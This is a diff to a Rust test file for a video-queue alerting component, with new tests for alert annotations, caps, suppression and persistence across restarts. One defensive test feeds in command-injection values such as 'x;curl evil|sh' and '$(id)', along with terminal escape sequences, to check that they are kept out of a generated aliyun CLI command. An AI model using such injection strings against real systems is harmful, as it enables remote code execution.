@@ -1,7 +1,10 @@
+use std::time::Duration;
+
 use proptest::prelude::*;
 
 use super::*;
 use crate::ledger::snapshot::{Mode, Role};
+use crate::vod::fault::{ErrorCode, Fault};
 
 const NOW: UnixMillis = UnixMillis::from_secs(1_000_000);
 
@@ -23,6 +26,10 @@ fn trouble(number: u32, since: i64, ailment: Ailment) -> Trouble {
         ailment,
         since: UnixMillis::from_secs(since),
         started: UnixMillis::from_secs(since - 900),
+        last_sign: UnixMillis::from_secs(since - 600),
+        place: number,
+        failure: None,
+        abandoned: None,
     }
 }
 
@@ -71,6 +78,52 @@ fn labels_tell_what_the_alert_is_and_nothing_that_changes() {
 }
 
 #[test]
+fn an_id_that_is_none_gets_into_no_command_and_moves_no_cursor() {
+    let about = |id: &str| {
+        let trouble = Trouble {
+            media: MediaKey::of(id),
+            ..stalled(1, 800)
+        };
+        Alert::about(&identity("q"), &trouble)
+    };
+    let usual = "0123456789abcdef0123456789abcdef";
+    let command = format!("aliyun vod GetTranscodeSummary --VideoIds {usual} --region cn-shanghai");
+    assert_eq!(about(usual).annotations["ask_vod"], command);
+    assert!(about("video_A-1").annotations.contains_key("ask_vod"));
+    let long = "x".repeat(65);
+    for id in [
+        "x;curl evil|sh",
+        "$(id)",
+        "a b",
+        "a\nb",
+        "-h",
+        "\u{e9}",
+        &long,
+    ] {
+        let alert = about(id);
+        assert!(!alert.annotations.contains_key("ask_vod"), "{id:?}");
+    }
+    let alert = about("a\n\u{1b}[2J\u{202e}b");
+    assert_eq!(alert.labels["video_id"], "a  [2J b");
+    let shown = &alert.annotations["description"];
+    assert!(shown.starts_with("Video a  [2J b of queue q"), "{shown:?}");
+}
+
+#[test]
+fn a_failure_tells_whose_fault_it_is_beside_the_labels() {
+    let failed = Trouble {
+        failure: Some((Fault::Config, ErrorCode::InternalError)),
+        ..trouble(1, 900, Ailment::Failed)
+    };
+    let annotations = Alert::about(&identity("q"), &failed).annotations;
+    assert_eq!(annotations["fault"], "config");
+    assert_eq!(annotations["error_code"], ErrorCode::InternalError.as_str());
+    assert_eq!(annotations["last_sign"], failed.last_sign.to_string());
+    let stalled = Alert::about(&identity("q"), &stalled(1, 900)).annotations;
+    assert!(!stalled.contains_key("fault"), "{stalled:?}");
+}
+
+#[test]
 fn five_thousand_stalls_are_fifty_alerts_and_one() {
     let mut book = Book::default();
     let flood = || troubles((0..5_000).map(|number| stalled(number, i64::from(number / 10))));
@@ -103,29 +156,104 @@ fn a_queue_that_is_not_watched_says_nothing_of_its_videos() {
     assert_eq!(book.look(troubles([stalled(1, 800)]), NOW).0, round);
 }
 
+#[test]
+fn a_later_deadline_in_the_past_takes_no_place() {
+    let failed = || (1..=5).map(|number| trouble(number, 900, Ailment::Failed));
+    let late = (6..206).map(|number| stalled(number, 100));
+    let mut book = Book::default();
+    let (before, _) = book.look(troubles(failed()), NOW);
+    let all = || troubles(failed().chain(late.clone()));
+    let (after, _) = book.look(all(), NOW);
+    assert!(
+        before
+            .firing
+            .keys()
+            .all(|key| after.firing.contains_key(key))
+    );
+    assert_eq!(Book::default().look(all(), NOW).0, after);
+}
+
+#[test]
+fn a_video_with_two_alerts_takes_one_place() {
+    let videos =
+        (1..=60).flat_map(|number| [stalled(number, 800), trouble(number, 700, Ailment::Failed)]);
+    let (round, suppressed) = Book::default().look(troubles(videos), NOW);
+    assert_eq!((round.firing.len(), suppressed), (2 * CAP + 1, 10));
+}
+
+/// A queue and its videos.
+type Part = (Arc<str>, Vec<(Arc<QueueIdentity>, Trouble)>);
+
+#[test]
+fn who_got_an_alert_while_a_queue_was_away_keeps_it() {
+    let of = |id: &str, numbers: std::ops::Range<u32>| {
+        let queue = identity(id);
+        let videos = numbers.map(|number| (Arc::clone(&queue), stalled(number, 800)));
+        (Arc::clone(&queue.id), videos.collect::<Vec<_>>())
+    };
+    let look = |book: &mut Book, parts: &[Part]| {
+        let troubles = Troubles {
+            queues: parts.iter().map(|(id, _)| Arc::clone(id)).collect(),
+            videos: parts
+                .iter()
+                .flat_map(|(_, videos)| videos.clone())
+                .collect(),
+        };
+        book.look(troubles, NOW).0
+    };
+    let (first, second) = (of("a", 1..50), of("b", 50..130));
+    let mut book = Book::default();
+    let alone = look(&mut book, std::slice::from_ref(&second));
+    let both = look(&mut book, &[first.clone(), second.clone()]);
+    assert!(alone.firing.keys().all(|key| both.firing.contains_key(key)));
+    let restarted = look(&mut Book::default(), &[first, second]);
+    assert!(
+        restarted
+            .firing
+            .keys()
+            .all(|key| both.firing.contains_key(key))
+    );
+}
+
+/// Who is in trouble at each of several looks: one who leaves and comes back stands at the end of the line, as in the ledger.
+fn lines() -> impl Strategy<Value = Vec<Vec<Trouble>>> {
+    let looks =
+        proptest::collection::vec(proptest::collection::btree_set(0_u32..120, 0..120), 1..12);
+    let sinces = proptest::collection::vec(0_i64..1_000, 120);
+    (looks, sinces).prop_map(|(looks, sinces)| {
+        let mut places: BTreeMap<u32, u32> = BTreeMap::new();
+        let lines = (1..).zip(looks).map(|(look, present)| {
+            places.retain(|number, _| present.contains(number));
+            let line = present.iter().zip(&sinces).map(|(number, since)| Trouble {
+                place: *places.entry(*number).or_insert(look),
+                ..stalled(*number, *since)
+            });
+            line.collect()
+        });
+        lines.collect()
+    })
+}
+
 proptest! {
     #[test]
-    fn who_has_an_alert_keeps_it_unchanged_while_it_is_true(
-        looks in proptest::collection::vec(proptest::collection::btree_set(0_u32..120, 0..120), 1..12),
-    ) {
+    fn who_has_an_alert_keeps_it_while_it_is_true_and_a_restart_changes_nothing(lines in lines()) {
         let mut book = Book::default();
         let mut before = Round::default();
         let mut without = 0;
-        for (look, present) in looks.into_iter().enumerate() {
-            let now = NOW.plus(Duration::from_secs(look as u64));
-            let wrong = troubles(present.iter().map(|number| stalled(*number, i64::from(*number))));
-            let (round, newly) = book.look(wrong.clone(), now);
+        for line in lines {
+            let wrong = troubles(line.iter().cloned());
+            let (round, newly) = book.look(wrong.clone(), NOW);
             let own = round.firing.keys().filter(|key| **key != Key::Suppressed).count();
-            prop_assert_eq!(own, present.len().min(CAP));
-            prop_assert_eq!(round.firing.contains_key(&Key::Suppressed), present.len() > CAP);
-            prop_assert_eq!(newly, (present.len() - own).saturating_sub(without));
-            without = present.len() - own;
+            prop_assert_eq!(own, line.len().min(CAP));
+            prop_assert_eq!(round.firing.contains_key(&Key::Suppressed), line.len() > CAP);
+            prop_assert_eq!(newly, (line.len() - own).saturating_sub(without));
+            without = line.len() - own;
             for (identity, trouble) in &wrong.videos {
                 let key = Key::of(identity, trouble);
-                if let Some(alert) = before.firing.get(&key) {
-                    prop_assert_eq!(round.firing.get(&key), Some(alert));
-                }
+                prop_assert!(!before.firing.contains_key(&key) || round.firing.contains_key(&key), "{:?}", key);
             }
+            let (restarted, _) = Book::default().look(wrong, NOW);
+            prop_assert!(restarted.firing.keys().eq(round.firing.keys()));
             before = round;
         }
     }
